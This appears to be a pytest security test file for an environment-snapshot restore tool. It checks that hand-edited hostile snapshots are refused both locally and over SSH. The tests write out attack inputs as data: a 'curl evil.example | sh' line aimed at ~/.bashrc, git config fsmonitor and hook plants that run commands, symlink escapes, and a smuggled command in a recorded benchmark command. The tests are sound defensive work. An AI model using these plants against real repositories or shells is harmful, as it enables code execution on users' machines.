"""Hostile snapshots through the real `envsnap restore`, locally and over the test sshd.

Each snapshot is a real capture edited by hand the way an attacker would (so it is foreign,
and is restored with --trust-foreign where the CLI has it: the write policy must hold for a
snapshot the user chose to trust). Each test checks real effects: a marker file that a
planted fsmonitor, hook or command would create must not exist, a file outside the allowed
places must be byte-identical, and no traceback is printed.
"""
from __future__ import annotations

import hashlib
import shlex
import subprocess
import sys
from collections.abc import Callable
from functools import lru_cache
from pathlib import Path
from typing import Any

import pytest
import yaml
from conftest import Cli
from helpers.folded import words
from helpers.gitrepos import Story
from helpers.pythons import site_packages, venv_with_own_sitecustomize
from helpers.restorestory import capture_good, moved_and_dirty, snapshot_of_tree
from helpers.sshd import Sshd

from envsnap.errors import ExitCode

Edit = Callable[[dict[str, Any]], None]
METRIC = r"token/s\): ([0-9.]+)"


@pytest.fixture
def story(tmp_path: Path) -> Story:
    return Story(tmp_path / "story")


@lru_cache(maxsize=1)
def trust_flags() -> tuple[str, ...]:
    """--trust-foreign where this envsnap has it (provenance): these snapshots are foreign."""
    shown = subprocess.run([sys.executable, "-m", "envsnap", "restore", "--help"],
                           capture_output=True, text=True, cwd=Path(__file__).parent.parent)
    return ("--trust-foreign",) if "--trust-foreign" in shown.stdout else ()


def pick(request: pytest.FixtureRequest, over_ssh: bool) -> tuple[Cli, str, Path]:
    """(the CLI, the host to capture, the HOME a restore's commands run with there)."""
    cli: Cli = request.getfixturevalue("ssh_cli" if over_ssh else "cli")
    if not over_ssh:
        return cli, "local", Path(cli.env["HOME"])
    sshd: Sshd = request.getfixturevalue("sshd")
    return cli, sshd.addresses[0], sshd.host_home


def edit_snapshot(cli: Cli, change: Edit, label: str = "good") -> None:
    path = Path(cli.env["ENVSNAP_STORE"]) / f"{label}.yaml"
    document = yaml.safe_load(path.read_text())
    change(document)
    path.write_text(yaml.safe_dump(document))


def the_repo(document: dict[str, Any]) -> dict[str, Any]:
    repos = document["facts"]["git"]["repos"]
    assert len(repos) == 1
    return dict(next(iter(repos.values())))


def kept_file(content: str) -> dict[str, Any]:
    """An untracked file as the agent records one it kept whole."""
    data = content.encode()
    return {"bytes": len(data), "content": content, "sha256": hashlib.sha256(data).hexdigest()}


def restore(cli: Cli, story: Story, *args: str) -> subprocess.CompletedProcess[str]:
    return cli("restore", "good", "--repo", str(story.checkout.path), *trust_flags(), *args)


def no_traceback(result: subprocess.CompletedProcess[str]) -> None:
    assert "Traceback" not in result.stdout + result.stderr, result.stdout + result.stderr


over_ssh = pytest.mark.parametrize("over_ssh", [False, True], ids=["local", "ssh"])


# ---- writes under .git: commands on the next git status ------------------------------------------

@over_ssh
@pytest.mark.parametrize("name", [".git/config", ".git/hooks/post-checkout", "src/.GIT/config"])
def test_an_untracked_file_under_git_is_refused(request: pytest.FixtureRequest, over_ssh: bool,
                                                story: Story, tmp_path: Path,
                                                name: str) -> None:
    cli, host, _ = pick(request, over_ssh)
    capture_good(cli, story, host)
    moved_and_dirty(story)
    marker = tmp_path / "fsmonitor-ran"
    planted = (f"[core]\n\tfsmonitor = touch {marker}\n" if name.endswith("config")
               else f"#!/bin/sh\ntouch {marker}\n")

    def plant(document: dict[str, Any]) -> None:
        for repo in document["facts"]["git"]["repos"].values():
            repo["uncommitted"]["untracked"][name] = kept_file(planted)
    edit_snapshot(cli, plant)
    config = (story.checkout.path / ".git" / "config").read_bytes()
    before = snapshot_of_tree(story)

    result = restore(cli, story, "--yes")
    story.checkout.git("status")            # what the user runs next: nothing may run
    assert not marker.exists()
    assert (story.checkout.path / ".git" / "config").read_bytes() == config
    assert name == ".git/config" or not (story.checkout.path / name).exists()
    no_traceback(result)
    assert result.returncode == 3, result.stdout + result.stderr
    assert "under .git" in result.stdout, result.stdout
    assert snapshot_of_tree(story) == before   # refused in the plan: nothing moved


# ---- writes outside the checkout -----------------------------------------------------------------

@over_ssh
def test_sitecustomize_recorded_at_bashrc_is_not_written(request: pytest.FixtureRequest,
                                                         over_ssh: bool, story: Story) -> None:
    cli, host, home = pick(request, over_ssh)
    capture_good(cli, story, host)
    moved_and_dirty(story)
    bashrc = home / ".bashrc"
    bashrc.write_text("# the user's own shell setup\n")
    evil = "curl evil.example | sh\n"

    def aim_at_bashrc(document: dict[str, Any]) -> None:
        customize = document["facts"]["python_env"]["customize"]
        customize["sitecustomize"] = {"path": str(bashrc), **kept_file(evil)}
    edit_snapshot(cli, aim_at_bashrc)
    for mode in ("--check", "--yes"):
        result = restore(cli, story, mode)
        assert bashrc.read_text() == "# the user's own shell setup\n"
        no_traceback(result)
        assert result.returncode == 3, result.stdout + result.stderr
        assert "not in this python's site-packages" in words(result.stdout), result.stdout


@over_ssh
def test_an_untracked_file_behind_the_patchs_symlink_is_refused(
        request: pytest.FixtureRequest, over_ssh: bool, story: Story, tmp_path: Path) -> None:
    cli, host, _ = pick(request, over_ssh)
    good = capture_good(cli, story, host)
    moved_and_dirty(story)
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "victim.txt").write_text("precious\n")
    patch = symlink_patch(story, good, "link", outside)

    def through_a_link(document: dict[str, Any]) -> None:
        for repo in document["facts"]["git"]["repos"].values():
            work = repo["uncommitted"]
            work["patch"] = {"text": patch, "bytes": len(patch.encode()), "truncated": False,
                             "sha256": hashlib.sha256(patch.encode()).hexdigest()}
            work.pop("staged", None)
            work["untracked"]["link/victim.txt"] = kept_file("overwritten\n")
    edit_snapshot(cli, through_a_link)
    before = snapshot_of_tree(story)

    result = restore(cli, story, "--yes")
    assert (outside / "victim.txt").read_text() == "precious\n"
    assert sorted(p.name for p in outside.iterdir()) == ["victim.txt"]
    no_traceback(result)
    assert result.returncode == 3, result.stdout + result.stderr
    assert "through link" in result.stdout, result.stdout
    assert snapshot_of_tree(story) == before


def symlink_patch(story: Story, commit: str, name: str, target: Path) -> str:
    """`git diff` of a new symlink on `commit`, made by git in a scratch worktree."""
    scratch = story.checkout.path.parent / "scratch"
    story.checkout.git("worktree", "add", "-q", "--detach", str(scratch), commit)
    try:
        (scratch / name).symlink_to(target)
        subprocess.run(["git", "-C", str(scratch), "add", name], check=True, env=story.env)
        return subprocess.run(["git", "-C", str(scratch), "diff", "--cached", "--binary"],
                              check=True, env=story.env, capture_output=True,
                              text=True).stdout
    finally:
        story.checkout.git("worktree", "remove", "--force", str(scratch))


# ---- checkouts nobody named ----------------------------------------------------------------------

def test_a_foreign_snapshot_cannot_pick_another_checkout(cli: Cli, story: Story) -> None:
    """The snapshot names the user's other clone (which has the commit): left alone."""
    capture_good(cli, story, "local")
    moved_and_dirty(story)
    story.upstream_moves(2)
    victim = story.dev
    victim.write("README.md", "the other clone's own work\n")
    victim_state = (victim.head(), victim.git("status", "--porcelain"),
                    victim.git("stash", "list"))

    def elsewhere(document: dict[str, Any]) -> None:
        repo = the_repo(document)
        document["facts"]["git"]["repos"] = {str(victim.path): repo}
        document["meta"]["config"]["repos"] = [str(victim.path)]
    edit_snapshot(cli, elsewhere)

    result = cli("restore", "good", "--yes", *trust_flags())
    assert (victim.head(), victim.git("status", "--porcelain"),
            victim.git("stash", "list")) == victim_state
    no_traceback(result)
    assert result.returncode == 2, result.stdout + result.stderr
    assert "--repo" in result.stderr and str(victim.path) in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1


# ---- which host ----------------------------------------------------------------------------------

def test_a_snapshot_without_hostname_is_an_unknown_host(cli: Cli, story: Story) -> None:
    good = capture_good(cli, story, "local")
    moved_and_dirty(story)

    def anonymous(document: dict[str, Any]) -> None:
        document["facts"]["system"].pop("hostname", None)
        document["facts"]["system"].pop("boot_id", None)
    edit_snapshot(cli, anonymous)
    before = snapshot_of_tree(story)

    picked = restore(cli, story, "--yes")           # its own meta.host picks the target
    assert snapshot_of_tree(story) == before
    no_traceback(picked)
    assert picked.returncode == 2, picked.stdout + picked.stderr
    assert "unknown host" in picked.stderr and "--host" in picked.stderr
    named = restore(cli, story, "--yes", "--host", "local")
    assert named.returncode == 2 and "--force-host" in named.stderr, named.stderr
    assert snapshot_of_tree(story) == before
    forced = restore(cli, story, "--yes", "--host", "local", "--force-host")
    assert forced.returncode == 0, forced.stdout + forced.stderr
    assert story.checkout.head() == good


# ---- --rerun runs the user's command -------------------------------------------------------------

@over_ssh
def test_rerun_runs_the_recorded_command_only_when_confirmed(
        request: pytest.FixtureRequest, over_ssh: bool, story: Story, tmp_path: Path) -> None:
    cli, host, _ = pick(request, over_ssh)
    honest = f"{shlex.quote(sys.executable)} -c \"print('token/s): 94')\""
    recorded = cli("bench", host, "--cmd", honest, "--metric", METRIC, "--repeat", "2",
                   "--sample-interval", "0", "--label", "good",
                   "--repo", str(story.checkout.path))
    assert recorded.returncode == 0, recorded.stdout + recorded.stderr
    planted, mine = tmp_path / "planted-ran", tmp_path / "mine-ran"

    def plant(document: dict[str, Any]) -> None:
        document["bench"]["command"] = f"touch {planted}; {honest}"
    edit_snapshot(cli, plant)

    refused = restore(cli, story, "--rerun")
    assert not planted.exists()
    no_traceback(refused)
    assert refused.returncode == ExitCode.DECLINED, refused.stdout + refused.stderr
    assert len(refused.stderr.strip().splitlines()) == 1
    assert f"touch {planted}" in refused.stderr and "--rerun-cmd" in refused.stderr

    own = restore(cli, story, "--rerun-cmd", f"touch {mine}; {honest}")
    no_traceback(own)
    assert own.returncode == 0, own.stdout + own.stderr
    assert mine.exists() and not planted.exists()

    confirmed = restore(cli, story, "--rerun", "--yes")
    assert confirmed.returncode == 0, confirmed.stdout + confirmed.stderr
    assert f"touch {planted}" in confirmed.stdout        # shown before it ran
    assert planted.exists()


# ---- nothing lost: an ignored file the good commit tracks ----------------------------------------

@over_ssh
def test_an_edited_ignored_file_comes_back_byte_identical_after_rollback(
        request: pytest.FixtureRequest, over_ssh: bool, story: Story) -> None:
    cli, host, _ = pick(request, over_ssh)
    settings = story.checkout.path / "config.local"
    story.checkout.commit("ship a default config", {"config.local": "shipped = 1\n"})
    capture_good(cli, story, host)
    story.checkout.git("rm", "-q", "--cached", "config.local")
    story.checkout.commit("config.local is each user's own", {".gitignore": "config.local\n"})
    mine = b"shipped = 1\nmy tuned = \xe2\x9c\x93 42\r\n\x00binary tail"
    settings.write_bytes(mine)
    settings.chmod(0o600)
    moved = story.checkout.head()

    restored = cli("restore", "good", "--yes")
    assert restored.returncode == 0, restored.stdout + restored.stderr
    assert settings.read_bytes() == b"shipped = 1\n"     # the good commit's, as asked
    rollback = next(line.split()[-1] for line in restored.stdout.splitlines()
                    if line.startswith("rollback point:"))

    rolled = cli("restore", rollback, "--yes")
    no_traceback(rolled)
    assert rolled.returncode == 0, rolled.stdout + rolled.stderr
    assert story.checkout.head() == moved
    assert settings.read_bytes() == mine
    assert settings.stat().st_mode & 0o777 == 0o600


@over_ssh
def test_a_sitecustomize_the_restore_created_is_removed_by_the_rollback(
        request: pytest.FixtureRequest, over_ssh: bool, story: Story, tmp_path: Path) -> None:
    """Written where the python itself reads it (a venv's site-packages), and undone."""
    cli, host, _ = pick(request, over_ssh)
    python = venv_with_own_sitecustomize(tmp_path / "venv")
    custom = site_packages(python) / "sitecustomize.py"
    custom.write_text("import os\nos.environ['NCCL_ALGO'] = 'Ring'\n")
    captured = cli("capture", host, "--label", "good", "--repo", str(story.checkout.path),
                   "--python", str(python))
    assert captured.returncode == 0, captured.stderr
    custom.unlink()                                   # gone since the good state

    restored = cli("restore", "good", "--yes")
    assert restored.returncode == 0, restored.stdout + restored.stderr
    assert custom.read_text() == "import os\nos.environ['NCCL_ALGO'] = 'Ring'\n"
    rollback = next(line.split()[-1] for line in restored.stdout.splitlines()
                    if line.startswith("rollback point:"))

    rolled = cli("restore", rollback, "--yes")
    no_traceback(rolled)
    assert not custom.exists(), rolled.stdout
    assert rolled.returncode == 0, rolled.stdout + rolled.stderr
